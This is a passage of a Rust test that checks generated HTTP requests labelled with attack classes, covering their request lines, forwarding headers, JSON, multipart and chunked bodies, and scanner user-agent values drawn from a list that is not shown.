            assert_eq!(get("x-request-id").unwrap(), t.request_id);
            assert_eq!(get("host").unwrap(), t.host);
            assert!(bytes.starts_with(format!("{} {} HTTP/1.1\r\n", t.method, t.uri).as_bytes()));
            assert!(get("x-real-ip").is_some() && get("x-forwarded-for").is_some());
            if get("transfer-encoding").is_some() {
                chunked += 1;
            }
            match get("content-type").as_deref() {
                Some("application/json") => {
                    json += 1;
                    let v: serde_json::Value = serde_json::from_slice(&body).unwrap();
                    if t.location_kind.as_deref() == Some("body:json") {
                        assert!(!v["search"]["q"].as_str().unwrap().is_empty());
                    }
                }
                Some(ct) if ct.starts_with("multipart/form-data; boundary=") => {
                    multipart += 1;
                    let b = &ct["multipart/form-data; boundary=".len()..];
                    assert!(body.ends_with(format!("--{b}--\r\n").as_bytes()));
                }
                _ => {}
            }
            if t.attack_class.as_deref() == Some("scanner") {
                assert_eq!(t.location.as_deref(), Some("header:user-agent"));
                assert!(SCANNERS.contains(&get("user-agent").unwrap().as_str()));
            }
        }
        assert!(
            chunked > 50 && json > 100 && multipart > 50,
            "{chunked} {json} {multipart}"
        );
    }
}
